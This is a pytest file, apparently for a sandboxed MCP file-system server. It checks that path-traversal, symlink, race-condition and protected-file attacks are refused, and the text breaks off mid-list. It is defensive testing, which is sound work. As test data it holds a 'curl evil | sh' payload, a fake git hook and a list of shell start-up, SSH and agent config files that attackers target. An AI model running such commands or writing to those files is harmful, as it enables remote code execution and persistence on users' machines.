"""Adversarial file-system calls (ARCHITECTURE §2): every trick must be refused with an `isError`
result naming the path or the rule, must never reveal the secret's content, and must leave every
file outside the granted directory exactly as it was (content, mtime, inode) or absent.

Layout (T = the test's temporary directory, canonical):

    T/x/work/                 granted read+write (`bastion serve T/x/work`)
    T/x/work/inside.txt
    T/x/work/link_file   ->   T/x/outside/secret.txt
    T/x/work/link_dir    ->   T/x/outside
    T/x/work/hard             hard link to T/x/outside/hard_secret.txt
    T/x/outside/secret.txt    SECRET
    T/x/work-evil/secret      SECRET (prefix confusion)

A raw stdio client drives the server (fast, and it can send what the official client would not).
Every test ends with the server still answering `ping`, and the `tree` fixture's teardown checks the
outside files once more.
"""

from __future__ import annotations

import ctypes
import json
import os
import secrets
import stat
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import anyio
import pytest
from mcp.types import ListRootsResult, Root

from conftest import LATEST, StdioClient
from fs_support import Snapshot, assert_refused, dump, is_error, result_text, run_official

WRITE_TOOLS = {"write_file", "edit_file", "create_directory", "move_file", "delete_path"}
READ_TOOLS = {
    "read_text_file", "read_file", "read_media_file", "read_multiple_files", "list_directory",
    "list_directory_with_sizes", "directory_tree", "search_files", "get_file_info", "search_content",
}  # fmt: skip


@dataclass
class Tree:
    top: Path
    work: Path
    outside: Path
    evil: Path
    secret: str
    snapshots: list[Snapshot] = field(default_factory=list)

    def outside_files(self) -> set[str]:
        found: set[str] = set()
        for base in (self.outside, self.evil):
            for dirpath, dirnames, filenames in os.walk(base):
                found |= {os.path.join(dirpath, n) for n in dirnames + filenames}
        return found


@pytest.fixture
def tree(tmp_path: Path):
    top = Path(os.path.realpath(tmp_path)) / "x"
    work, outside, evil = top / "work", top / "outside", top / "work-evil"
    for d in (work, outside, evil):
        d.mkdir(parents=True)
    secret = "TOP-SECRET-" + secrets.token_hex(8)
    (outside / "secret.txt").write_text(secret + "\n")
    (outside / "hard_secret.txt").write_text(secret + " (hard)\n")
    (outside / "sub").mkdir()
    (outside / "sub" / "deep.txt").write_text(secret + " (deep)\n")
    (evil / "secret").write_text(secret + " (evil)\n")
    (work / "inside.txt").write_text("inside\n")
    os.symlink(outside / "secret.txt", work / "link_file")
    os.symlink(outside, work / "link_dir")
    os.link(outside / "hard_secret.txt", work / "hard")
    t = Tree(top, work, outside, evil, secret)
    before = t.outside_files()
    t.snapshots = [Snapshot.of(Path(p)) for p in sorted(before)] + [Snapshot.of(outside), Snapshot.of(evil)]
    time.sleep(0.01)  # so that a rewrite within the same clock tick would still change mtime_ns
    yield t
    for snap in t.snapshots:
        snap.assert_unchanged()
    assert t.outside_files() == before, f"files appeared outside: {t.outside_files() - before}"


def start(spawn, *args) -> StdioClient:
    srv = spawn(*args)
    srv.initialize(LATEST)
    return srv


@pytest.fixture
def srv(spawn, tree: Tree) -> StdioClient:
    """`bastion serve T/x/work`, initialized."""
    return start(spawn, tree.work)


def refused(srv: StdioClient, tree: Tree, tool: str, args: dict, names: list[str], *words: str) -> str:
    res = srv.call_tool(tool, args)
    text = assert_refused(res, names=names, secrets=[tree.secret], words=words)
    srv.assert_alive()
    return text


def no_leak(tree: Tree, res: dict) -> None:
    assert tree.secret not in dump(res), f"secret leaked: {dump(res)[:600]}"


def read_args(tool: str, path: str) -> dict:
    if tool == "read_multiple_files":
        return {"paths": [path]}
    if tool in ("search_files", "search_content"):
        return {"path": path, "pattern": "*" if tool == "search_files" else "SECRET"}
    return {"path": path}


# ---------------------------------------------------------------------------------------------
# Reads that try to leave the granted directory
# ---------------------------------------------------------------------------------------------

# (id, path builder, names one of which the refusal must show)
FILE_ESCAPES = [
    ("dotdot-absolute", lambda t: f"{t.work}/../outside/secret.txt", ["secret.txt"]),
    ("dotdot-deep", lambda t: f"{t.work}/a/b/../../../outside/secret.txt", ["secret.txt"]),
    ("dotdot-relative", lambda t: "../../../../x/outside/secret.txt", ["secret.txt"]),
    ("absolute-outside", lambda t: f"{t.outside}/secret.txt", ["secret.txt"]),
    ("prefix-confusion", lambda t: f"{t.evil}/secret", ["work-evil/secret"]),
    ("symlink-to-file", lambda t: f"{t.work}/link_file", ["secret.txt", "link_file"]),
    ("under-symlinked-dir", lambda t: f"{t.work}/link_dir/secret.txt", ["secret.txt"]),
    ("proc-self-root", lambda t: f"/proc/self/root{t.outside}/secret.txt", ["secret.txt"]),
    ("proc-self-cwd", lambda t: "/proc/self/cwd/x/outside/secret.txt", ["secret.txt"]),
    ("proc-self-environ", lambda t: "/proc/self/environ", ["environ"]),
    ("proc-self-fd", lambda t: "/proc/self/fd/0", ["fd"]),
    ("tilde-escape", lambda t: "~/../../../../" + str(t.outside)[1:] + "/secret.txt", ["secret.txt"]),
]
FILE_READERS = ["read_text_file", "read_file", "read_media_file", "get_file_info", "search_content"]


@pytest.mark.parametrize("case", FILE_ESCAPES, ids=[c[0] for c in FILE_ESCAPES])
def test_reading_outside_is_refused(srv, tree, case):
    _, build, names = case
    path = build(tree)
    for tool in FILE_READERS:
        if tool == "get_file_info" and case[0] == "symlink-to-file":
            continue  # get_file_info describes the link itself (inside), by contract
        refused(srv, tree, tool, read_args(tool, path), names, "permission denied")
    # read_multiple_files reports each failure inline: no secret, an error naming the path.
    res = srv.call_tool("read_multiple_files", {"paths": [path, f"{tree.work}/inside.txt"]})
    no_leak(tree, res)
    text = result_text(res)
    assert f"{path}: Error" in text and "Permission denied" in text, text
    assert "inside\n" in text, "the allowed file is still read"
    srv.finish()


DIR_ESCAPES = [
    ("dotdot", lambda t: f"{t.work}/..", ["x"]),
    ("absolute-outside", lambda t: str(t.outside), ["outside"]),
    ("prefix-confusion", lambda t: str(t.evil), ["work-evil"]),
    ("symlinked-dir", lambda t: f"{t.work}/link_dir", ["outside", "link_dir"]),
    ("proc-self-root", lambda t: f"/proc/self/root{t.outside}", ["outside"]),
    ("proc-self-cwd", lambda t: "/proc/self/cwd", ["/proc/self/cwd", "pytest-of"]),
    ("root", lambda t: "/", ['"/"']),
]
DIR_READERS = ["list_directory", "list_directory_with_sizes", "directory_tree", "search_files", "search_content"]


@pytest.mark.parametrize("case", DIR_ESCAPES, ids=[c[0] for c in DIR_ESCAPES])
def test_listing_or_searching_outside_is_refused(srv, tree, case):
    _, build, names = case
    for tool in DIR_READERS:
        res = refused(srv, tree, tool, read_args(tool, build(tree)), names, "permission denied")
        assert "secret.txt" not in res and "hard_secret" not in res, res
    srv.finish()


def test_searches_from_inside_never_follow_links_out(srv, tree):
    for tool in ("search_files", "search_content", "directory_tree", "list_directory"):
        pattern = "**/*" if tool == "search_files" else "TOP-SECRET"
        res = srv.call_tool(tool, {"path": str(tree.work), "pattern": pattern} if "search" in tool else {"path": str(tree.work)})
        assert not is_error(res), result_text(res)
        no_leak(tree, res)
        text = result_text(res)
        assert "deep.txt" not in text and "hard_secret" not in text, (tool, text)
    res = srv.call_tool("search_content", {"path": str(tree.work), "pattern": "TOP-SECRET"})
    assert result_text(res) == "No matches found", "the hard link and the symlinks are not searched"
    srv.finish()


def test_hard_link_inside_is_not_read(srv, tree):
    path = f"{tree.work}/hard"
    for tool in ("read_text_file", "read_file", "read_media_file"):
        refused(srv, tree, tool, {"path": path}, ["hard"], "hard link")
    refused(srv, tree, "read_text_file", {"path": path, "tail": 1}, ["hard"], "hard link")
    refused(srv, tree, "edit_file", {"path": path, "edits": [{"oldText": "TOP", "newText": "x"}], "dryRun": True},
            ["hard"], "hard link")  # fmt: skip
    res = srv.call_tool("read_multiple_files", {"paths": [path]})
    no_leak(tree, res)
    assert "hard link" in result_text(res)
    srv.finish()


# ---------------------------------------------------------------------------------------------
# Writes that try to leave the granted directory
# ---------------------------------------------------------------------------------------------

WRITE_ESCAPES = [
    ("dotdot-new", lambda t: f"{t.work}/../outside/new.txt", ["new.txt"]),
    ("dotdot-existing", lambda t: f"{t.work}/../outside/secret.txt", ["secret.txt"]),
    ("absolute-existing", lambda t: f"{t.outside}/secret.txt", ["secret.txt"]),
    ("prefix-confusion", lambda t: f"{t.evil}/secret", ["work-evil/secret"]),
    ("prefix-confusion-new", lambda t: f"{t.evil}/new", ["work-evil/new"]),
    ("symlink-to-file", lambda t: f"{t.work}/link_file", ["secret.txt", "link_file"]),
    ("under-symlinked-dir", lambda t: f"{t.work}/link_dir/new.txt", ["new.txt"]),
    ("under-symlinked-dir-existing", lambda t: f"{t.work}/link_dir/secret.txt", ["secret.txt"]),
    ("deep-under-symlinked-dir", lambda t: f"{t.work}/link_dir/sub/deep.txt", ["deep.txt"]),
    ("proc-self-root", lambda t: f"/proc/self/root{t.outside}/new.txt", ["new.txt"]),
    ("proc-self-cwd", lambda t: "/proc/self/cwd/x/outside/new.txt", ["new.txt"]),
    ("relative-to-audit-log", lambda t: "../../audit.jsonl", ["audit.jsonl"]),
]


@pytest.mark.parametrize("case", WRITE_ESCAPES, ids=[c[0] for c in WRITE_ESCAPES])
def test_writing_outside_is_refused(srv, tree, case):
    _, build, names = case
    path = build(tree)
    inside = f"{tree.work}/inside.txt"
    calls = [
        ("write_file", {"path": path, "content": "pwned"}),
        ("edit_file", {"path": path, "edits": [{"oldText": "TOP", "newText": "pwned"}]}),
        ("create_directory", {"path": path + "/d"}),
        ("delete_path", {"path": path, "recursive": True}),
        ("move_file", {"source": path, "destination": f"{tree.work}/stolen"}),
        ("move_file", {"source": inside, "destination": path}),
    ]
    if case[0] == "symlink-to-file":
        # delete_path and move_file act on the link itself (tests below); moving onto it: it exists.
        calls = [c for c in calls if c[0] not in ("delete_path", "move_file")]
        refused(srv, tree, "move_file", {"source": inside, "destination": path}, ["link_file"], "exists")
    for tool, args in calls:
        refused(srv, tree, tool, args, names, "permission denied")
    assert not (tree.work / "stolen").exists() and (tree.work / "inside.txt").read_text() == "inside\n"
    srv.finish()


def test_delete_of_a_symlink_deletes_only_the_link(srv, tree):
    for link in ("link_file", "link_dir"):
        res = srv.call_tool("delete_path", {"path": f"{tree.work}/{link}", "recursive": True})
        assert not is_error(res), result_text(res)
        assert not os.path.lexists(tree.work / link)
    assert (tree.outside / "secret.txt").read_text() == tree.secret + "\n"
    srv.finish()  # the fixture re-checks every outside file (content, mtime, inode)


def test_move_of_a_symlink_moves_only_the_link(srv, tree):
    res = srv.call_tool("move_file", {"source": f"{tree.work}/link_dir", "destination": f"{tree.work}/renamed"})
    assert not is_error(res), result_text(res)
    assert os.readlink(tree.work / "renamed") == str(tree.outside)
    # …and the moved link still leads nowhere the client may go.
    refused(srv, tree, "read_text_file", {"path": f"{tree.work}/renamed/secret.txt"}, ["secret.txt"], "permission denied")
    srv.finish()


def test_write_to_a_hard_link_replaces_the_name_only(srv, tree):
    res = srv.call_tool("write_file", {"path": f"{tree.work}/hard", "content": "replaced"})
    assert not is_error(res), result_text(res)
    assert (tree.work / "hard").read_text() == "replaced"
    assert os.stat(tree.work / "hard").st_nlink == 1
    assert os.stat(tree.outside / "hard_secret.txt").st_nlink == 1
    srv.finish()  # outside/hard_secret.txt unchanged: checked by the fixture


# ---------------------------------------------------------------------------------------------
# Time-of-check/time-of-use: a directory flipped to a symlink to the outside while calls run
# ---------------------------------------------------------------------------------------------


def _exchanger():
    libc = ctypes.CDLL(None, use_errno=True)
    renameat2 = getattr(libc, "renameat2", None)
    AT_FDCWD, RENAME_EXCHANGE = -100, 2

    def exchange(a: Path, b: Path) -> None:
        if renameat2 is not None and renameat2(AT_FDCWD, bytes(a), AT_FDCWD, bytes(b), RENAME_EXCHANGE) == 0:
            return
        # No renameat2: two renames (a short window where neither exists is fine for this test).
        tmp = a.with_name(a.name + ".swap")
        os.rename(a, tmp)
        os.rename(b, a)
        os.rename(tmp, b)

    return exchange


def test_symlink_swap_race_never_reads_or_writes_outside(srv, tree):
    flip, spare = tree.work / "flip", tree.work / "flip.other"
    flip.mkdir()
    (flip / "secret.txt").write_text("harmless\n")
    (flip / "sub").mkdir()
    os.symlink(tree.outside, spare)
    exchange = _exchanger()
    stop = threading.Event()
    flips = 0

    def flipper() -> None:
        nonlocal flips
        while not stop.is_set():
            exchange(flip, spare)
            flips += 1

    thread = threading.Thread(target=flipper, daemon=True)
    thread.start()
    try:
        ids = []
        for i in range(200):  # pipelined: the server runs them concurrently
            for tool, args in (
                ("read_text_file", {"path": f"{flip}/secret.txt"}),
                ("write_file", {"path": f"{flip}/secret.txt", "content": f"overwrite {i}"}),
                ("write_file", {"path": f"{flip}/new-{i}.txt", "content": "created"}),
                ("edit_file", {"path": f"{flip}/secret.txt", "edits": [{"oldText": "e", "newText": "e"}]}),
                ("create_directory", {"path": f"{flip}/dir-{i}/sub"}),
                ("move_file", {"source": f"{flip}/secret.txt", "destination": f"{tree.work}/stolen-{i}"}),
                ("delete_path", {"path": f"{flip}/sub", "recursive": True}),
            ):
                id = srv.next_id()
                ids.append((id, tool))
                srv.send({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": tool, "arguments": args}})
        # Responses may come in any order (calls run concurrently): collect them by id.
        pending = dict(ids)
        responses: dict[int, dict] = {}
        deadline = time.monotonic() + 40
        while pending:
            msg = srv.recv(timeout=max(0.1, deadline - time.monotonic()))
            if msg.get("id") in pending:
                pending.pop(msg["id"])
                responses[msg["id"]] = msg
        outcomes = {"ok": 0, "refused": 0}
        for id, tool in ids:
            res = responses[id]["result"]
            no_leak(tree, res)
            outcomes["refused" if is_error(res) else "ok"] += 1
            if tool == "read_text_file" and not is_error(res):
                text = result_text(res)
                assert text == "harmless\n" or text.startswith("overwrite "), text
        for stolen in tree.work.glob("stolen-*"):  # whatever was moved came from inside
            assert tree.secret not in stolen.read_text()
    finally:
        stop.set()
        thread.join(5)
    assert flips > 10, f"the flipper barely ran ({flips} flips)"
    assert outcomes["refused"] > 0 and outcomes["ok"] > 0, f"the race was never hit: {outcomes}"
    srv.finish()
    # The fixture checks that outside/secret.txt is unchanged and that no new-*.txt landed outside.


# ---------------------------------------------------------------------------------------------
# Malformed paths
# ---------------------------------------------------------------------------------------------


NUL_BUG = ()  # fixed: a NUL in the last component is refused before any system call


@pytest.mark.parametrize(
    "tool",
    [
        "read_text_file", "write_file", "list_directory", "create_directory", "edit_file",
        pytest.param("get_file_info", marks=NUL_BUG),
        pytest.param("delete_path", marks=NUL_BUG),
        pytest.param("move_file", marks=NUL_BUG),
    ],
)  # fmt: skip
def test_nul_byte_in_path_is_refused(srv, tree, tool):
    (tree.work / "a").write_text("a\n")
    args = {"path": f"{tree.work}/a\u0000b"}
    if tool == "write_file":
        args["content"] = "x"
    if tool == "edit_file":
        args["edits"] = [{"oldText": "a", "newText": "b"}]
    if tool == "move_file":
        args = {"source": args["path"], "destination": f"{tree.work}/moved"}
    text = refused(srv, tree, tool, args, ["a\\u{0}b", "a\\u0000b", "NUL"])
    assert "nul" in text.lower(), text
    assert (tree.work / "a").read_text() == "a\n" and sorted(os.listdir(tree.work)) == sorted(
        ["a", "inside.txt", "link_file", "link_dir", "hard"]
    )
    srv.finish()


@pytest.mark.parametrize("tool", ["read_text_file", "write_file", "create_directory", "delete_path", "search_files"])
def test_over_long_paths_and_names_are_refused(srv, tree, tool):
    def args(path: str) -> dict:
        extra = {"content": "x"} if tool == "write_file" else {"pattern": "*"} if tool == "search_files" else {}
        return {"path": path, **extra}

    long_path = f"{tree.work}/" + "/".join(["d" * 99] * 50)  # ~5000 characters
    text = refused(srv, tree, tool, args(long_path), [str(tree.work)[:40], "d" * 40], "long")
    assert len(text) < 2000, "the refusal does not echo a 5000-character path in full"
    long_name = f"{tree.work}/" + "n" * 300
    refused(srv, tree, tool, args(long_name), ["n" * 40], "long")
    assert sorted(os.listdir(tree.work)) == ["hard", "inside.txt", "link_dir", "link_file"]
    srv.finish()


# ---------------------------------------------------------------------------------------------
# Protected files, even inside a granted directory
# ---------------------------------------------------------------------------------------------

PROTECTED = [".bashrc", ".git/hooks/pre-commit", ".ssh/authorized_keys", ".mcp.json", ".git/config", ".profile"]


@pytest.fixture
def protected(tree: Tree) -> dict[str, Snapshot]:
    for rel in PROTECTED:
        p = tree.work / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(f"original {rel}\n")
    snaps = {rel: Snapshot.of(tree.work / rel) for rel in PROTECTED}
    time.sleep(0.01)
    return snaps


@pytest.mark.parametrize("rel", PROTECTED)
def test_protected_files_are_never_written(srv, tree, protected, rel):
    path = str(tree.work / rel)
    calls = [
        ("write_file", {"path": path, "content": "pwned"}),
        ("edit_file", {"path": path, "edits": [{"oldText": "original", "newText": "pwned"}]}),
        ("delete_path", {"path": path}),
        ("move_file", {"source": path, "destination": f"{tree.work}/moved"}),
    ]
    for tool, args in calls:
        refused(srv, tree, tool, args, [rel.split("/")[-1]], "protected")
    protected[rel].assert_unchanged()
    assert not (tree.work / "moved").exists()
    # Reading a protected file is allowed: protection is about writing.
    res = srv.call_tool("read_text_file", {"path": path})
    assert result_text(res) == f"original {rel}\n"
    srv.finish()


@pytest.mark.parametrize(
    "rel",
    [
        ".bashrc", "proj/.zshrc", ".git/hooks/post-merge", ".ssh/rc", "proj/.mcp.json", ".cursor/mcp.json",
        "proj/.git/hooks", "proj/.config/fish/config.fish", ".config/bastion/bastion.toml", ".bash_profile",
        "proj/.git/config", ".vscode/mcp.json", "claude_desktop_config.json",
    ],
)  # fmt: skip
def test_protected_paths_cannot_be_created(srv, tree, protected, rel):
    (tree.work / "payload").write_text("curl evil | sh\n")
    (tree.work / "proj").mkdir(exist_ok=True)
    target = tree.work / rel
    existed = Snapshot.of(target)
    refused(srv, tree, "write_file", {"path": str(target), "content": "x"}, [rel.split("/")[-1]], "protected")
    refused(srv, tree, "move_file", {"source": str(tree.work / "payload"), "destination": str(target)},
            [rel.split("/")[-1]], "protected")  # fmt: skip
    refused(srv, tree, "create_directory", {"path": str(target)}, [rel.split("/")[-1]], "protected")
    existed.assert_unchanged()
    assert (tree.work / "payload").read_text() == "curl evil | sh\n"
    srv.finish()


def _unprotected(reason: str):
    return ()  # all on the built-in protected list now; the reason documents why each matters


@pytest.mark.parametrize(
    "rel",
    [
        pytest.param(".zshenv", marks=_unprotected("zsh reads it at every start, even non-interactive")),
        pytest.param(".zlogin", marks=_unprotected("zsh login start-up file")),
        pytest.param(".bash_login", marks=_unprotected("bash login start-up file (read when .bash_profile is absent)")),
        pytest.param(".claude/settings.json", marks=_unprotected("Claude Code settings: hooks run commands, MCP servers")),
        pytest.param(".claude.json", marks=_unprotected("Claude Code's MCP server configuration")),
        pytest.param(".gemini/settings.json", marks=_unprotected("Gemini CLI's mcpServers configuration")),
        pytest.param(".codex/config.toml", marks=_unprotected("OpenAI Codex CLI's mcp_servers configuration")),
    ],
)
def test_more_shell_start_up_and_mcp_client_files_are_protected(srv, tree, rel):
    """ARCHITECTURE §2: shell start-up files and MCP client configurations are never writable."""
    target = tree.work / rel
    target.parent.mkdir(parents=True, exist_ok=True)
    refused(srv, tree, "write_file", {"path": str(target), "content": "x"}, [rel.split("/")[-1]], "protected")
    assert not target.exists()
    srv.finish()


def test_protected_directories_cannot_be_replaced_or_removed(srv, tree, protected):
    w = tree.work
    # Moving a directory so that a file lands on a protected path: x/.git2/hooks/pre-commit → x/.git/…
    (w / "x" / ".git2" / "hooks").mkdir(parents=True)
    (w / "x" / ".git2" / "hooks" / "pre-commit").write_text("#!/bin/sh\nevil\n")
    refused(srv, tree, "move_file", {"source": str(w / "x" / ".git2"), "destination": str(w / "x" / ".git")},
            ["pre-commit", ".git"], "protected")  # fmt: skip
    assert not (w / "x" / ".git").exists() and (w / "x" / ".git2" / "hooks" / "pre-commit").exists()
    # …or a hooks directory moved into place under an existing .git.
    (w / "y" / ".git").mkdir(parents=True)
    (w / "hooks2").mkdir()
    (w / "hooks2" / "pre-push").write_text("evil\n")
    refused(srv, tree, "move_file", {"source": str(w / "hooks2"), "destination": str(w / "y" / ".git" / "hooks")},
            ["hooks"], "protected")  # fmt: skip
    assert not (w / "y" / ".git" / "hooks").exists()
    # Renaming or deleting the parent of protected files is writing them.
    refused(srv, tree, "move_file", {"source": str(w / ".git"), "destination": str(w / "gitx")}, [".git"], "protected")
    refused(srv, tree, "delete_path", {"path": str(w / ".git"), "recursive": True}, [".git"], "protected")
    refused(srv, tree, "delete_path", {"path": str(w / ".ssh"), "recursive": True}, [".ssh"], "protected")
    # A symlink inside that points at a protected directory does not help.
    os.symlink(w / ".git" / "hooks", w / "hooklink")
    refused(srv, tree, "write_file", {"path": str(w / "hooklink" / "post-merge"), "content": "evil"},
            ["post-merge"], "protected")  # fmt: skip
    for rel in PROTECTED:
        protected[rel].assert_unchanged()
    assert sorted(os.listdir(w / ".git" / "hooks")) == ["pre-commit"]
    srv.finish()


# ---------------------------------------------------------------------------------------------
# Configured clients: deny rules, read_only, file_write_global
# ---------------------------------------------------------------------------------------------


def config_server(spawn, write_config, tree: Tree, client: str, body: str) -> StdioClient:
    config = write_config(f'[[clients]]\nid = "{client}"\n{body}\n')
    return start(spawn, "--config", config, "--client", client)


@pytest.fixture
def guarded(spawn, write_config, tree: Tree) -> StdioClient:
    """A client with read+write on work and `deny = ["**/.env"]`; work/.env and work/sub/.env hold the secret."""
    (tree.work / ".env").write_text(f"API_KEY={tree.secret}\n")
    (tree.work / "sub").mkdir()
    (tree.work / "sub" / ".env").write_text(f"TOKEN={tree.secret}\n")
    (tree.work / "sub" / "ok.txt").write_text("fine\n")
    os.symlink(tree.work / ".env", tree.work / "alias")
    tree.snapshots += [Snapshot.of(tree.work / ".env"), Snapshot.of(tree.work / "sub" / ".env")]
    return config_server(
        spawn, write_config, tree, "guarded",
        f'permissions = ["file_read:{tree.work}/**", "file_write:{tree.work}/**"]\ndeny = ["**/.env"]',
    )  # fmt: skip


DENY_READS = [
    (tool, rel)
    for rel in (".env", "sub/.env", "alias", "sub/../.env")
    for tool in ("read_text_file", "read_file", "read_media_file", "get_file_info", "search_content")
    if not (tool == "get_file_info" and rel == "alias")  # describes the link itself (inside), by contract
]


@pytest.mark.parametrize("tool,rel", DENY_READS)
def test_deny_rule_refuses_reads(guarded, tree, tool, rel):
    refused(guarded, tree, tool, read_args(tool, f"{tree.work}/{rel}"), [".env"], "deny rule", "**/.env")
    guarded.finish()


def test_deny_rule_hides_entries_from_listings_and_searches(guarded, tree):
    w = str(tree.work)
    calls = [
        ("list_directory", {"path": w}),
        ("list_directory", {"path": f"{w}/sub"}),
        ("list_directory_with_sizes", {"path": w}),
        ("directory_tree", {"path": w}),
        ("search_files", {"path": w, "pattern": "**/.env"}),
        ("search_files", {"path": w, "pattern": "**/*env*"}),
        ("search_files", {"path": w, "pattern": "**"}),
        ("search_content", {"path": w, "pattern": "API_KEY|TOKEN|TOP-SECRET"}),
        ("search_content", {"path": w, "pattern": ".", "filePattern": ".env"}),
        ("read_multiple_files", {"paths": [f"{w}/.env", f"{w}/sub/ok.txt"]}),
    ]
    for tool, args in calls:
        res = guarded.call_tool(tool, args)
        no_leak(tree, res)
        text = result_text(res)
        if tool == "read_multiple_files":
            assert "deny rule" in text and "fine\n" in text, text
            continue
        assert not is_error(res), (tool, text)
        assert ".env" not in text, (tool, args, text)
    text = result_text(guarded.call_tool("list_directory", {"path": w}))
    assert "[FILE] inside.txt" in text and "[DIR] sub" in text
    guarded.finish()


def test_deny_rule_refuses_writes_and_moves(guarded, tree):
    w = tree.work
    calls = [
        ("write_file", {"path": f"{w}/.env", "content": "pwned"}),
        ("write_file", {"path": f"{w}/sub/new/.env", "content": "pwned"}),
        ("edit_file", {"path": f"{w}/.env", "edits": [{"oldText": "API", "newText": "x"}], "dryRun": True}),
        ("move_file", {"source": f"{w}/.env", "destination": f"{w}/plain.txt"}),
        ("move_file", {"source": f"{w}/inside.txt", "destination": f"{w}/sub/.env2/../.env"}),
        ("move_file", {"source": f"{w}/sub", "destination": f"{w}/sub2"}),  # carries sub/.env out of its rule
        ("delete_path", {"path": f"{w}/.env"}),
        ("delete_path", {"path": f"{w}/sub", "recursive": True}),
    ]
    for tool, args in calls:
        refused(guarded, tree, tool, args, [".env"], "deny rule")
    assert (w / "sub" / "ok.txt").exists() and not (w / "sub2").exists() and not (w / "plain.txt").exists()
    assert (w / "inside.txt").read_text() == "inside\n"
    guarded.finish()  # both .env files unchanged: checked by the fixture


@pytest.fixture
def reader(spawn, write_config, tree: Tree) -> StdioClient:
    return config_server(
        spawn, write_config, tree, "reader",
        f'permissions = ["file_read:{tree.work}/**", "file_write:{tree.work}/**"]\nread_only = true',
    )  # fmt: skip


def test_read_only_client_lists_no_write_tool(reader, tree):
    names = set(reader.tool_names())
    assert not names & WRITE_TOOLS, names & WRITE_TOOLS
    assert READ_TOOLS <= names, READ_TOOLS - names
    assert "read_only" not in result_text(reader.call_tool("read_text_file", {"path": f"{tree.work}/inside.txt"}))
    reader.finish()


@pytest.mark.parametrize(
    "tool,args",
    [
        ("write_file", {"path": "{w}/inside.txt", "content": "pwned"}),
        ("write_file", {"path": "{w}/new.txt", "content": "pwned"}),
        ("edit_file", {"path": "{w}/inside.txt", "edits": [{"oldText": "inside", "newText": "pwned"}]}),
        ("create_directory", {"path": "{w}/newdir"}),
        ("move_file", {"source": "{w}/inside.txt", "destination": "{w}/moved.txt"}),
        ("delete_path", {"path": "{w}/inside.txt"}),
    ],
)
def test_read_only_client_cannot_write(reader, tree, tool, args):
    args = json.loads(json.dumps(args).replace("{w}", str(tree.work)))
    snap = Snapshot.of(tree.work / "inside.txt")
    res = reader.call_tool(tool, args)
    assert is_error(res), result_text(res)
    text = result_text(res).lower()
    assert "read_only" in text or "file_write" in text or "permission" in text, text
    assert tool in result_text(res) or "read_only" in text or str(tree.work) in result_text(res), text
    snap.assert_unchanged()
    assert sorted(os.listdir(tree.work)) == ["hard", "inside.txt", "link_dir", "link_file"]
    reader.finish()


def global_setup(tree: Tree) -> Path:
    g = tree.top / "global"
    (g / "sub").mkdir(parents=True)
    os.symlink(tree.outside / "secret.txt", g / "evil.log")
    return g


def test_file_write_global_alone_allows_write_file_where_it_matches(spawn, write_config, tree):
    g = global_setup(tree)
    srv = config_server(
        spawn, write_config, tree, "gw", f'permissions = ["file_read:{tree.work}/**", "file_write_global:{g}/*.log"]'
    )
    assert "write_file" in srv.tool_names()
    res = srv.call_tool("write_file", {"path": f"{g}/app.log", "content": "logged\n"})
    assert not is_error(res), result_text(res)
    assert (g / "app.log").read_text() == "logged\n"
    srv.finish()


def test_file_write_global_writes_exactly_where_its_glob_matches(spawn, write_config, tree):
    # file_write (the client's own workdir) makes the write tools available; the global glob adds one place.
    g = global_setup(tree)
    global_writer = config_server(
        spawn, write_config, tree, "gw",
        f'permissions = ["file_read:{tree.work}/**", "file_write", "file_write_global:{g}/*.log"]',
    )  # fmt: skip
    res = global_writer.call_tool("write_file", {"path": f"{g}/app.log", "content": "logged\n"})
    assert not is_error(res), result_text(res)
    assert (g / "app.log").read_text() == "logged\n"
    for path, name in [
        (f"{g}/app.txt", "app.txt"),  # wrong extension
        (f"{g}/sub/app.log", "sub/app.log"),  # `*` stays in one segment
        (f"{g}/sub/../../outside/x.log", "x.log"),  # `..` resolved first
        (f"{g}/evil.log", "secret.txt"),  # a matching name that is a symlink to the outside
        (f"{tree.outside}/x.log", "x.log"),
        (f"{tree.work}/x.log", "x.log"),  # read-only there: no file_write
        (f"{g}.log", "global.log"),
    ]:
        refused(global_writer, tree, "write_file", {"path": path, "content": "pwned"}, [name], "permission denied")
    assert sorted(os.listdir(g)) == ["app.log", "evil.log", "sub"] and os.listdir(g / "sub") == []
    assert not (tree.work / "x.log").exists() and not Path(f"{g}.log").exists()
    global_writer.finish()


# ---------------------------------------------------------------------------------------------
# Bastion's own files, recursive deletes through links, roots that try to widen the scope
# ---------------------------------------------------------------------------------------------


def test_bastion_audit_log_and_config_are_protected_even_inside_a_grant(
    spawn, write_config, run_cli, tree, tmp_path, state_home
):
    top = Path(os.path.realpath(tmp_path))
    srv = config_server(spawn, write_config, tree, "owner", f'permissions = ["file_read:{top}/**", "file_write:{top}/**"]')
    srv.call_tool("list_allowed_directories", {})
    audit = Path(os.path.realpath(state_home)) / "bastion" / "audit.jsonl"
    config = top / "bastion.toml"
    assert audit.exists() and config.exists()
    config_snap = Snapshot.of(config)
    head = audit.with_name("audit.jsonl.head")
    for path in (audit, config, head):
        name = path.name
        refused(srv, tree, "write_file", {"path": str(path), "content": "{}"}, [name], "protected")
        refused(srv, tree, "edit_file", {"path": str(path), "edits": [{"oldText": "a", "newText": "b"}]}, [name], "protected")
        refused(srv, tree, "delete_path", {"path": str(path)}, [name], "protected")
        refused(srv, tree, "move_file", {"source": str(path), "destination": str(top / "moved")}, [name], "protected")
    refused(srv, tree, "delete_path", {"path": str(audit.parent), "recursive": True}, ["audit.jsonl"], "protected")
    refused(srv, tree, "move_file", {"source": str(audit.parent), "destination": str(top / "b2")}, ["audit.jsonl"],
            "protected")  # fmt: skip
    config_snap.assert_unchanged()
    assert audit.exists() and not (top / "moved").exists() and not (top / "b2").exists()
    srv.finish()
    verify = run_cli("audit", "verify", audit)
    assert verify.returncode == 0, verify.stdout + verify.stderr


def test_recursive_delete_removes_links_not_their_targets(srv, tree):
    d = tree.work / "doomed"
    (d / "inner").mkdir(parents=True)
    os.symlink(tree.outside, d / "to_outside_dir")
    os.symlink(tree.outside / "secret.txt", d / "inner" / "to_secret")
    os.link(tree.outside / "secret.txt", d / "inner" / "hard_secret")
    res = srv.call_tool("delete_path", {"path": str(d), "recursive": True})
    assert not is_error(res), result_text(res)
    assert not os.path.lexists(d)
    assert os.stat(tree.outside / "secret.txt").st_nlink == 1
    srv.finish()  # the fixture checks every outside file and directory is intact


def test_roots_cannot_widen_the_scope(bastion_bin, server_env, tmp_path, tree):
    """Roots offered through a symlink, `..` or outright outside the grant add nothing."""
    def uri(path: str) -> str:
        return "file://" + path

    offered = [
